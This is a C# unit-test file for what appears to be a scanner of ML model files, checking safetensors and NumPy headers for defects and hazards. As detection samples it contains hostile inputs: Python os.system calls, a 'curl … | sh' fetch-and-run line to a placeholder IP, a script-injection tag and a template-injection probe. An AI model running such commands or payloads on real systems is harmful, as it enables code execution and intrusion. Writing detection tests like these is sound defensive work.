using MlSecPol.Engine.Artifacts;
using MlSecPol.Engine.Models;
using MlSecPol.Engine.Tests.Artifacts;
using Xunit;
using Kind = MlSecPol.Engine.Models.HeaderDefectKind;

namespace MlSecPol.Engine.Tests.Models;

public class TensorHeaderTests
{
    private const string Valid = """{"__metadata__":{"a":"b"},"x":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"y":{"dtype":"BF16","shape":[],"data_offsets":[8,10]}}   """;

    [Theory]
    [InlineData("import os\nos.system('id')")]
    [InlineData("__import__('os').system('id')")]
    [InlineData("#!/bin/sh\nid\n")]
    [InlineData("curl http://203.0.113.1/x | sh")]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("{{ cycler.__init__.__globals__.os }}")]
    public void Metadata_that_are_a_program_are_a_hazard(string value) =>
        Assert.Contains(Samples.Read(Samples.SafeTensors(WithNote(value), 0), "m.safetensors").Hazards, h => h.Effect > HazardEffect.Opaque);

    [Theory]
    [InlineData("You may eval(x) it; from a checkpoint, import it.")]
    [InlineData("{\"import os\": {\"1girl\": 3}}")]
    [InlineData("https://example.com/model?download=true")]
    [InlineData("abababababababababababababababababababababababababababababababab")]
    [InlineData("imported from a run of the trainer")]
    [InlineData("curl is used to fetch the data, bash to unpack them")]
    public void Metadata_that_speak_of_programs_are_none(string value) =>
        Assert.Empty(Samples.Read(Samples.SafeTensors(WithNote(value), 0), "m.safetensors").Hazards);

    [Fact]
    public void Bytes_in_a_hole_of_safetensors_are_more_than_an_oddity()
    {
        const string header = """{"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]}}""";
        Assert.Contains(Samples.Read([.. Samples.SafeTensors(header, 2), 1, 2, 3], "m.safetensors").HeaderDefects, d => d.Kind == HeaderDefectKind.Malformed);
        Assert.Contains(Samples.Read([.. Samples.SafeTensors(header, 2), 0, 0, 0], "m.safetensors").HeaderDefects, d => d.Kind == HeaderDefectKind.Hole);
    }

    private static string WithNote(string value) => $$$"""{"__metadata__":{"note":{{{System.Text.Json.JsonSerializer.Serialize(value)}}}}}""";

    [Fact]
    public void A_sound_safetensors_file_is_clean()
    {
        var facts = Samples.Read(Samples.SafeTensors(Valid, 10), "m.safetensors");
        Assert.Empty(facts.HeaderDefects);
        Assert.Empty(facts.Gaps);
        Assert.Equal((2, 10), (facts.TensorCount, facts.TensorBytes));
    }

    [Theory]
    [InlineData("""{"x":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"y":{"dtype":"F32","shape":[2],"data_offsets":[4,12]}}""", 12, Kind.Overlap)]
    [InlineData("""{"x":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}""", 12, Kind.Hole)]
    [InlineData("""{"x":{"dtype":"F32","shape":[2],"data_offsets":[4,12]}}""", 12, Kind.Hole)]
    [InlineData("""{"x":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}""", 4, Kind.OutOfBounds)]
    [InlineData("""{"x":{"dtype":"F32","shape":[3],"data_offsets":[0,8]}}""", 8, Kind.SizeMismatch)]
    [InlineData("""{"x":{"dtype":"F32","shape":[4611686018427387904,4],"data_offsets":[0,8]}}""", 8, Kind.Overflow)]
    [InlineData("""{"x":{"dtype":"F32","shape":[2],"data_offsets":[0,99999999999999999999]}}""", 8, Kind.Overflow)]
    [InlineData("""{"x":{"dtype":"F32","shape":[-2],"data_offsets":[0,8]}}""", 8, Kind.Overflow)]
    [InlineData("""{"x":{"dtype":"F32","shape":[2],"data_offsets":[8,0]}}""", 8, Kind.OutOfBounds)]
    [InlineData("""{"x":{"dtype":"X9","shape":[2],"data_offsets":[0,8]}}""", 8, Kind.UnknownType)]
    [InlineData("""{"x":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"x":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}""", 8, Kind.DuplicateKey)]
    [InlineData("""{"x":{"dtype":"F32","dtype":"U8","shape":[2],"data_offsets":[0,8]}}""", 8, Kind.DuplicateKey)]
    [InlineData("""{"__metadata__":{"a":1},"x":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}""", 8, Kind.Malformed)]
    [InlineData("""{"x":{"dtype":"F32","shape":[2]}}""", 8, Kind.Malformed)]
    [InlineData("""{"x":{"dtype":"F32","shape":[2],"data_offsets":[0,8]""", 8, Kind.Malformed)]
    [InlineData(""" {"x":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}""", 8, Kind.Malformed)]
    public void Each_false_claim_of_safetensors_is_found(string header, int data, HeaderDefectKind expected) =>
        Assert.Contains(expected, Samples.Read(Samples.SafeTensors(header, data), "m.safetensors").HeaderDefects.Select(d => d.Kind));

    [Fact]
    public void A_header_deeper_than_allowed_is_a_gap()
    {
        var facts = Samples.Read(Samples.SafeTensors("{\"a\":" + new string('[', 200) + new string(']', 200) + "}", 0), "m.safetensors");
        Assert.Contains(facts.Gaps, g => g.IsError);
    }

    [Fact]
    public void A_header_longer_than_the_buffer_is_read_whole()
    {
        var header = "{" + string.Join(',', Enumerable.Range(0, 5000).Select(i => $"\"layer.{i}.{new string('n', i % 90)}\":{{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[{i},{i + 1}]}}")) + "}";
        var facts = Samples.Read(Samples.SafeTensors(header, 5000), "m.safetensors");
        Assert.Empty(facts.HeaderDefects);
        Assert.Equal(5000, facts.TensorCount);
    }

    [Fact]
    public void A_length_that_leaves_the_file_is_found_by_the_name_of_the_file()
    {
        byte[] file = [0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0, 0, 0, .. "{}"u8];
        Assert.Contains(Samples.Read(file, "m.safetensors").HeaderDefects, d => d.Kind == Kind.OutOfBounds);
    }

    [Theory]
    [InlineData("'<f4'", "(2, 3)", 24, null)]
    [InlineData("'<f4'", "()", 4, null)]
    [InlineData("'<U3'", "(2L,)", 24, null)]
    [InlineData("[('a', '<f4'), ('b', '<i8', (2, 3)), (('title', 'c'), [('d', '|u1')])]", "(1,)", 53, null)]
    [InlineData("'<f4'", "(3, 3)", 24, Kind.OutOfBounds)]
    [InlineData("'<f8'", "(4611686018427387904,)", 8, Kind.Overflow)]
    [InlineData("'<f8'", "(99999999999999999999,)", 8, Kind.Overflow)]
    [InlineData("'<f8'", "(-1,)", 8, Kind.Overflow)]
    [InlineData("'<q8'", "(1,)", 8, Kind.UnknownType)]
    [InlineData("__import__('os')", "(1,)", 8, Kind.Malformed)]
    public void Headers_of_arrays_are_compared_with_their_bytes(string descr, string shape, int data, HeaderDefectKind? expected)
    {
        var facts = Samples.Read(Samples.NumPy(descr, shape, new byte[data]), "a.npy");
        Assert.Equal(expected, facts.HeaderDefects.Count == 0 ? null : facts.HeaderDefects[0].Kind);
    }

    [Theory]
    [InlineData("'|O'")]
    [InlineData("[('a', '<f4'), ('b', [('c', 'O')])]")]
    [InlineData("('|V8', [('o', '|O8')])")]
    public void Arrays_of_objects_are_read_as_pickles(string descr)
    {
        var facts = Samples.Read(Samples.NumPy(descr, "(1,)", Samples.Hostile), "a.npy");
        if (descr[0] == '(') Assert.Contains(facts.HeaderDefects, d => d.Kind is Kind.UnknownType);
        else Assert.True(Samples.Calls(facts));
    }

    [Theory]
    [InlineData(0)]
    [InlineData(8)]
    public void Object_arrays_in_archives_are_read(int method)
    {
        var facts = Samples.Read(new ZipAssembler().Add("a.npy", Samples.NumPy("'<f4'", "(2,)", new byte[8]), method).Add("o.npy", Samples.NumPy("'|O'", "(1,)", Samples.Hostile), method).Build(), "a.npz");
        Assert.Equal(ArtifactFormat.NumPyZip, facts.Format);
        Assert.Equal(2, facts.Arrays.Count);
        Assert.True(Samples.Calls(facts));
    }

    [Fact]
    public void Bytes_behind_an_array_are_noted_and_read()
    {
        var facts = Samples.Read([.. Samples.NumPy("'<f4'", "(2,)", new byte[8]), .. Samples.Hostile], "a.npy");
        Assert.Single(facts.UnownedRanges);
        Assert.True(Samples.Calls(facts));
    }
}
